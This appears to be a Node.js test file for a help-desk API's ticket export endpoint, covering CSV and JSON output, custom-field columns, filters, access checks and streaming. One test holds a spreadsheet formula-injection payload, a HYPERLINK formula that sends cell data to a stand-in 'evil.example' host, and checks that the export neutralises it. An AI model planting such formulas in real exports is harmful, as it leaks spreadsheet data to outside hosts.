// Ticket exports (issue #11): GET /api/v1/export/<kind path> gives the
// tickets of a kind the list filters select, as CSV (the fields an agent's
// list shows, then a column per field defined for the kind at run time) or
// as a JSON array of list answers; agents only; every page of the queue.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, as } from './lib.mjs';

let s, admin, agent, eu;
before(async () => {
  s = await startServer({ users: [{ login: 'agent1', role: 'agent' }, { login: 'eu1', role: 'end_user' }] });
  admin = as(s, 'admin');
  agent = as(s, 'agent1');
  eu = as(s, 'eu1');
  assert.equal((await admin('POST', '/api/v1/custom-fields', { body: { kind: 'incident', name: 'site', label: 'Site', type: 'text' } })).status, 201);
  assert.equal((await admin('POST', '/api/v1/custom-fields', { body: { kind: 'incident', name: 'seats', label: 'Seats', type: 'number' } })).status, 201);
  for (let i = 0; i < 230; i++) {
    const body = { title: `export ${i}, "quoted"`, impact: 1 + (i % 3), urgency: 2, ...(i % 2 ? { custom: { site: `Leeds ${i}`, seats: i } } : {}) };
    assert.equal((await agent('POST', '/api/v1/incidents', { body })).status, 201);
  }
});
after(async () => { await s.cleanup(); });

// A small RFC 4180 reader for the answer.
function parse(text) {
  const rows = [];
  let row = [], field = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; } else if (ch === '\r') {} else if (ch === '\n') { row.push(field); rows.push(row); row = []; field = ''; } else field += ch;
  }
  return rows;
}

test('CSV: every incident, every page, with a column per custom field', async () => {
  const r = await agent('GET', '/api/v1/export/incidents');
  assert.equal(r.status, 200, r.text);
  assert.match(r.headers.get('content-type'), /^text\/csv/);
  assert.match(r.headers.get('content-disposition'), /incidents\.csv/);
  const rows = parse(r.text);
  const head = rows[0];
  assert.deepEqual(head.slice(0, 3), ['number', 'kind', 'state']);
  assert.deepEqual(head.slice(-2), ['custom.seats', 'custom.site'], 'in form order');
  assert.ok(!head.includes('allowed_actions') && !head.includes('sla') && !head.includes('root_cause'));
  assert.equal(rows.length - 1, 230, 'every incident, past one page');
  const at = (name) => head.indexOf(name);
  const one = rows.find((x) => x[at('title')] === 'export 7, "quoted"');
  assert.ok(one, 'quotes and commas survive');
  assert.equal(one[at('custom.site')], 'Leeds 7');
  assert.equal(one[at('custom.seats')], '7');
  const none = rows.find((x) => x[at('title')] === 'export 8, "quoted"');
  assert.equal(none[at('custom.site')], '');
  assert.match(one[at('created_at')], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
});

test('a title a spreadsheet would run as a formula is exported behind an apostrophe; the JSON keeps it as it is', async () => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  const n = (await eu('POST', '/api/v1/incidents', { body: { title: evil } })).json.number;
  const r = await agent('GET', '/api/v1/export/incidents?requester=eu1');
  const rows = parse(r.text);
  const row = rows.find((x) => x[0] === n);
  assert.equal(row[rows[0].indexOf('title')], `'${evil}`);
  assert.ok(r.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'quoted, the quotes doubled');
  const j = await agent('GET', '/api/v1/export/incidents?requester=eu1&format=json');
  assert.equal(j.json.find((x) => x.number === n).title, evil);
});

test('filters apply; JSON gives list answers; end users and bad filters are refused', async () => {
  const r = await agent('GET', '/api/v1/export/incidents?format=json&priority=3&custom_field=site&custom_value=Leeds%2013');
  assert.equal(r.status, 200, r.text);
  assert.ok(Array.isArray(r.json));
  assert.equal(r.json.length, 1);
  assert.equal(r.json[0]['custom.site'], 'Leeds 13');
  assert.equal(r.json[0]['custom.seats'], 13);
  assert.equal(r.json[0].priority, 3);
  assert.deepEqual(r.json[0].watchers, []);
  const p = await agent('GET', '/api/v1/export/problems');
  assert.equal(p.status, 200);
  assert.ok(parse(p.text)[0].includes('root_cause'), 'a kind exports its own fields');
  assert.equal((await eu('GET', '/api/v1/export/incidents')).status, 403);
  assert.equal((await agent('GET', '/api/v1/export/incidents?priority=9')).status, 400);
  assert.equal((await agent('GET', '/api/v1/export/incidents?limit=5')).status, 400, 'an export is not paged');
  assert.equal((await agent('GET', '/api/v1/export/cis?state=new')).status, 400, 'CMDB exports take no ticket filters');
});

// Issue #21: the export is streamed a page at a time (chunked, no length
// known up front), so it holds one page whatever the number of rows; the
// list's filters select the same rows the list shows.
test('the export streams the rows the list filters select, CSV and JSON alike', async () => {
  const listed = [];
  for (let cursor = ''; ;) {
    const l = await agent('GET', `/api/v1/incidents?priority=2&state=new&limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    listed.push(...l.json.items.map((x) => x.number));
    if (!l.json.next_cursor) break;
    cursor = l.json.next_cursor;
  }
  assert.ok(listed.length > 0 && listed.length < 230, `the filters select some (${listed.length})`);
  const r = await agent('GET', '/api/v1/export/incidents?priority=2&state=new');
  assert.equal(r.status, 200);
  assert.equal(r.headers.get('transfer-encoding'), 'chunked');
  assert.equal(r.headers.get('content-length'), null);
  assert.equal(r.headers.get('content-disposition'), 'attachment; filename="incidents.csv"');
  const rows = parse(r.text);
  const at = rows[0].indexOf('number');
  assert.deepEqual(rows.slice(1).map((x) => x[at]).sort(), [...listed].sort());
  assert.ok(rows.slice(1).every((x) => x[rows[0].indexOf('priority')] === '2'));
  const j = await agent('GET', '/api/v1/export/incidents?format=json&priority=2&state=new');
  assert.equal(j.headers.get('transfer-encoding'), 'chunked');
  assert.deepEqual(j.json.map((x) => x.number).sort(), [...listed].sort());
  const none = await agent('GET', '/api/v1/export/incidents?format=json&priority=2&state=resolved');
  assert.deepEqual(none.json, []);
});
